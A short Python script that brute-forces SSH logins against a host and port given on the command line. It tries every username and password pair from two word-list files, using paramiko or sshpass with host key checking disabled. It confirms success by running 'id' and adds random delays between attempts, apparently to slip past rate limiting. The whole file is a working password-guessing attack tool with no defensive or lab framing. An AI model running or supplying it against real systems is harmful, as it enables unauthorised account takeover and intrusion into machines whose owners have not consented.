"""Tries passwords for users, each in a connection of its own: HOST PORT paramiko|ssh SECONDS"""
import random, subprocess, sys, time

host, port, how, pause = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])


def with_paramiko(user, password):
    import paramiko

    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        client.connect(host, port, user, password, allow_agent=False, look_for_keys=False, banner_timeout=60, auth_timeout=60)
        return client.exec_command("id")[1].read().startswith(b"uid=")
    except paramiko.AuthenticationException:
        return False
    finally:
        client.close()


def with_ssh(user, password):
    args = ["sshpass", "-p", password, "ssh", "-p", str(port), "-o", "StrictHostKeyChecking=no", "-o", "PubkeyAuthentication=no", user + "@" + host, "id"]
    return subprocess.run(args, capture_output=True).stdout.startswith(b"uid=")


try_one = {"paramiko": with_paramiko, "ssh": with_ssh}[how]
for user in open("users").read().split():
    for password in open("passwords").read().split():
        if try_one(user, password):
            sys.exit("found " + user + " " + password)
        time.sleep(random.uniform(0, pause))
